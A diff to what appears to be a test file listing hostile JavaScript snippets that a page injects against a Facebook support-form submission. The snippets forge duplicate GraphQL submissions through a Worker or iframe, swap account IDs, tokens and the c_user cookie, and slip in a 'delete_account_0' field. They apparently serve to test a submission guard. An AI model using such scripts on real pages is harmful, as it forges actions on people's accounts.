@@ -23,6 +23,16 @@ _SUBMIT = """
       input: { fields: fields, support_form_id: location.pathname.match(/([0-9]+)/)[1], client_mutation_id: '1' }
     }));
   }
+  function whole() {
+    return encode(common({
+      fb_api_caller_class: 'RelayModern', fb_api_req_friendly_name: 'useCometSupportFormSubmitMutation',
+      server_timestamps: 'true', doc_id: boot.doc_ids.useCometSupportFormSubmitMutation,
+      variables: JSON.stringify({input: {
+        fields: same(), support_form_id: location.pathname.match(/([0-9]+)/)[1], client_mutation_id: '1'
+      }})
+    })).toString();
+  }
+  var FORM = {'Content-Type': 'application/x-www-form-urlencoded'};
   function button() { return document.querySelector('[role=main] .primary, [role=main] [aria-label=Submit]'); }
 """
 BESIDE = {
@@ -41,6 +51,12 @@ BESIDE = {
     "navigator.sendBeacon('/ajax/help/contact/submit/page', new URLSearchParams({support_form_id: '1'}));"
     "fetch('/api/graphql/', {method: 'POST', keepalive: true, body: new URLSearchParams("
     "{fb_api_req_friendly_name: 'useCometSupportFormSubmitMutation'})}); } }, true);",
+    "worker_of_its_own": "addEventListener('pointerdown', function () { new Worker(URL.createObjectURL(new Blob(["
+    "'fetch(\"https://www.facebook.com/api/graphql/\", ' + JSON.stringify({method: 'POST', headers: FORM, body: whole()}) + "
+    "')']))); }, true);",
+    "empty_frame": "addEventListener('pointerdown', function () { var frame = document.createElement('iframe'); "
+    "document.body.append(frame); frame.contentWindow.fetch('/api/graphql/', {method: 'POST', headers: FORM, body: whole()});"
+    " }, true);",
 }
 """What goes on beside an honest press: exactly one submission arrives all the same."""
 WORKER = "/worker.js"
@@ -64,6 +80,17 @@ INSTEAD = {
     "old.replaceWith(copy); }).observe(document, {subtree: true, attributes: true, attributeFilter: ['style']});",
 }
 """What the page exchanges between review and press: nothing arrives."""
+INSTEAD |= {
+    "another_account": "addEventListener('pointerdown', function () { me.ACCOUNT_ID = me.USER_ID = '100080000000001'; }, true);",
+    "another_number": "addEventListener('pointerdown', function () { "
+    "boot.doc_ids.useCometSupportFormSubmitMutation = '24512315571720158'; }, true);",
+    "words_in_a_token": "addEventListener('pointerdown', function () { boot.tokens.lsd = 'delete everything'; }, true);",
+    "an_empty_name": "addEventListener('pointerdown', function () { var old = encode; "
+    "encode = function (fields) { fields.delete_account_0 = ''; return old(fields); }; }, true);",
+}
+OTHER_COOKIE = "addEventListener('pointerdown', function () { document.cookie = "
+OTHER_COOKIE += "'c_user=100080000000001; domain=.facebook.com; path=/; secure'; }, true);"
+"""The cookies name another account before the press; the body is the one that was reviewed."""
 INSTEAD_LEGACY = {
     "another_action": "addEventListener('pointerdown', function () { document.forms[0].action = '/ajax/other/'; }, true);",
     "another_host": "addEventListener('pointerdown', function () { document.forms[0].action = "
